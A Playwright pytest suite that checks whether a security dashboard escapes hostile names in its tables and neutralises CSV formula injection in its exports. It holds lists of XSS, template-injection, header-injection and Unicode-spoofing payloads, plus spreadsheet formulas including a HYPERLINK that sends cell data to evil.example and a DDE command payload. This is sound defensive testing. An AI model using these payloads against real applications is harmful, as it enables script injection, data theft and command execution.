"""Names that others choose: shown as text, escaped where they hide, harmless in a file."""

import csv
import io
import re
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from tests.dashboard.conftest import sign_in
from tests.dashboard.site import Site
from tests.dashboard.world import (
    NOTHING,
    World,
    api_key,
    change,
    event,
    finding,
    link,
    organization,
    pack,
    project,
    user,
)

pytestmark = pytest.mark.browser
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "javascript:alert(1)",
    "</bdi></td><iframe srcdoc='<script>alert(1)</script>'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "__proto__",
    "\x1b[2J\x1b]0;owned\x07",
    "a\r\nSet-Cookie: x=1",
    "evil\u202egpj.exe",
    "pay\u200bpal \u2066x\u2069 \ufeff \U000e0041",
    "lone \ud800 surrogate",
    "line\u2028separator",
    "x" * 20_000,
]
ACCESS = ("admin-keys", "service-accounts", "invites", "project-users", "groups", "roles")
FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    'quoted "name", with comma',
    "two\r\nlines",
]


def _hostile() -> World:
    """Every text of every row is a payload."""
    world = World(organizations=[], kpis={"stale_keys": 1})
    rows = list(enumerate(PAYLOADS + FORMULAS))
    world.organizations = [
        organization(f"org-{n}", display_name=text, hints=[text], status=text, outcome=text)
        for n, text in rows
    ]
    org = {"org_id": "org-0"}
    kind = {"kind": "orphan_key", "severity": "high"}
    world.lists = {
        "/users": [user(n, **org, email_prefix=t, role=t, user_id=f"{n}{t}") for n, t in rows],
        "/projects": [project(n, **org, name=t, status=t) for n, t in rows],
        "/api-keys": [
            api_key(
                n,
                **org,
                key_id=t,
                name=t,
                redacted_value=t,
                type=t,
                owner_type=t,
                owner_id=t,
                findings=[kind | {"reason": t}, {"kind": t, "reason": t, "severity": t}],
            )
            for n, t in rows
        ],
        "/events": [
            event(n, **org, event_type=t, actor_type=t, actor_id=t, target_id=t, details={t: [t]})
            for n, t in rows
        ],
        "/changes": [
            change(n, **org, entity_id=f"{n}{t}", event_id=t, **_changed(t)) for n, t in rows
        ],
        "/findings": [finding(n, t, **org, **_found(t)) for n, t in rows],
        **{f"/{view}": [_row(n, t) for n, t in rows] for view in ACCESS},
        "/evidence-packs": [pack(n + 1, "failed", reason=t, kind=t, profile=t) for n, t in rows],
    }
    world.links = {n + 1: [link(n, label=t, state=t)] for n, t in rows}
    return world


def _row(number: int, text: str) -> dict[str, object]:
    """Return a row of any list of who may do what."""
    names: tuple[str, ...] = (
        "name",
        "redacted_value",
        "owner_id",
        "owner_role",
        "role",
        "status",
        "person_id",
    )
    names += ("email_prefix", "group_type", "description", "resource_type", "project_id")
    ids = ("key_id", "service_account_id", "invite_id", "membership_id", "group_id", "role_id")
    row: dict[str, object] = {**dict.fromkeys(names, text), "permissions": [text] * 5}
    row |= dict.fromkeys(ids, f"{number}{text}")
    return row | {"org_id": "org-0", "user_id": text, "first_seen_at": None, "expires_at": text}


def _changed(text: str) -> dict[str, object]:
    both = {"before": {text: text}, "after": {text: [text]}}
    return both | dict.fromkeys(("section", "kind", "verdict", "reason"), text)


def _found(text: str) -> dict[str, object]:
    said = dict.fromkeys(("state", "reason", "accountable", "due_date", "by"), text)
    by = {"hour": "2026-04-02T00:00:00Z", "kind": text, "event_id": text}
    same = dict.fromkeys(("reason", "severity", "section", "entity_id", "event_id"), text)
    subject = dict.fromkeys(NOTHING, text)
    return same | {"resolved_by": by, "stated": said, "subject": subject}


@pytest.mark.slow
def test_no_name_runs_loads_or_asks_anything(page: Page, site: Site) -> None:
    """The page's fixture fails on a dialog, a policy violation, a foreign request or an error."""
    site.world.__dict__.update(_hostile().__dict__)
    site.world.refuse["GET /billing"] = (400, {"title": PAYLOADS[1], "detail": PAYLOADS[2]})
    page.set_viewport_size({"width": 1280, "height": 20_000})  # every row is in sight
    sign_in(page, site, "#organizations")
    expect(page.get_by_test_id("organization")).to_have_count(len(PAYLOADS + FORMULAS))
    page.get_by_test_id("nav-bill").click()
    expect(page.get_by_test_id("bill-problem")).to_contain_text(PAYLOADS[1])
    for view, testid in (
        ("users", "row"),
        ("projects", "row"),
        ("keys", "row"),
        ("events", "row"),
        ("changes", "row"),
        ("findings", "row"),
        *((view, "row") for view in ACCESS),
        ("packs", "pack"),
    ):
        page.get_by_test_id(f"nav-{view}").click()
        if view == "findings":
            page.get_by_test_id("findings-filter-state").select_option("all")
            expect(page.get_by_test_id("select-row").first).to_be_visible()
        rows = page.get_by_test_id(f"table-{view}").get_by_test_id(testid)
        expect(rows).to_have_count(len(PAYLOADS + FORMULAS))
        expect(rows.nth(0)).to_contain_text(PAYLOADS[0])
    page.evaluate(f"location.hash = {'#key?org_id=org-0&id=' + quote(PAYLOADS[0])!r}")
    expect(page.get_by_test_id("note")).to_contain_text(PAYLOADS[0])
    expect(page.get_by_test_id("timeline")).to_contain_text(PAYLOADS[0])
    page.get_by_test_id("nav-now").click()
    expect(page.get_by_test_id("work-list")).to_contain_text(PAYLOADS[2])
    page.get_by_test_id("trend").wait_for()
    made = page.evaluate(
        "document.querySelectorAll('#page :is(script, .text svg, iframe, link, base)').length"
    )
    assert made == 0


def test_no_label_of_a_link_runs_anything(page: Page, site: Site) -> None:
    """Labels are an admin's own words; an auditor reads them."""
    hostile = _hostile()
    site.world.links = {2: [row for rows in hostile.links.values() for row in rows]}
    sign_in(page, site, "#packs")
    page.get_by_test_id("pack-share").click()
    expect(page.get_by_test_id("link")).to_have_count(len(PAYLOADS + FORMULAS))
    expect(page.get_by_test_id("links")).to_contain_text(PAYLOADS[1])
    expect(page.get_by_test_id("links")).to_contain_text("evil\\u202Egpj.exe")


@pytest.mark.slow
def test_what_hides_is_shown_escaped(page: Page, site: Site) -> None:
    """Bidi controls, zero-width characters, terminal escapes, tags, separators, lone surrogates."""
    site.world.lists["/projects"] = [project(n, name=text) for n, text in enumerate(PAYLOADS)]
    sign_in(page, site, "#projects")
    table = page.get_by_test_id("table-projects")
    for shown in (
        "evil\\u202Egpj.exe",
        "pay\\u200Bpal \\u2066x\\u2069 \\uFEFF \\u{E0041}",
        "\\u001B[2J",
        "a\\u000D\\u000ASet-Cookie",
        "lone \\uD800 surrogate",
        "line\\u2028separator",
        "19700 more characters",
    ):
        expect(table).to_contain_text(shown)
    expect(table.locator(".escape").first).to_be_visible()
    assert not re.search("[\u202e\u200b\u2066\u2028\x1b]", table.inner_text())


def _export(page: Page, view: str, into: Path) -> list[dict[str, str]]:
    with page.expect_download() as caught:
        page.get_by_test_id(f"{view}-csv").click()
    caught.value.save_as(into)
    text = into.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.slow
def test_the_file_holds_every_page_and_no_formula(page: Page, site: Site, tmp_path: Path) -> None:
    """Read again cell by cell: a formula has its apostrophe, everything else is as it was."""
    site.world.lists["/projects"] = [project(n, name=text) for n, text in enumerate(FORMULAS)]
    site.world.page_size = 4
    sign_in(page, site, "#projects")
    rows = _export(page, "projects", tmp_path / "projects.csv")
    plain = {'quoted "name", with comma', "two\r\nlines"}
    wanted = [text if text in plain else f"'{text}" for text in FORMULAS]
    assert [row["name"] for row in rows] == wanted
    assert [row["project_id"] for row in rows] == [f"proj_{n:04d}" for n in range(len(FORMULAS))]
    assert {row["created_at"] for row in rows} == {"2025-10-02T10:00:00Z"}
    assert {row["archived_at"] for row in rows} == {""}


@pytest.mark.slow
def test_no_cell_of_any_table_starts_a_formula_or_hides_a_character(
    page: Page, site: Site, tmp_path: Path
) -> None:
    """Every field of every row, payloads included."""
    site.world.lists = _hostile().lists
    sign_in(page, site)
    for view in ("users", "projects", "keys", "events", "changes", "findings"):
        page.get_by_test_id(f"nav-{view}").click()
        rows = _export(page, view, tmp_path / f"{view}.csv")
        assert len(rows) == len(PAYLOADS + FORMULAS)
        for cell in (cell for row in rows for cell in row.values()):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
            assert not re.search("[\u202e\u200b\u2066\ufeff\x1b\u2028]", cell)


@pytest.mark.slow
def test_a_file_that_cannot_be_completed_is_not_written(page: Page, site: Site) -> None:
    """Half a table would look like a whole one."""
    sign_in(page, site, "#users")
    expect(page.get_by_test_id("users-count")).to_have_text("3 rows, all of them")
    site.world.refuse["GET /users"] = (503, {"title": "Busy", "detail": "Try again."})
    page.get_by_test_id("users-csv").click()
    expect(page.get_by_test_id("users-csv-problem")).to_contain_text("Busy Try again.")
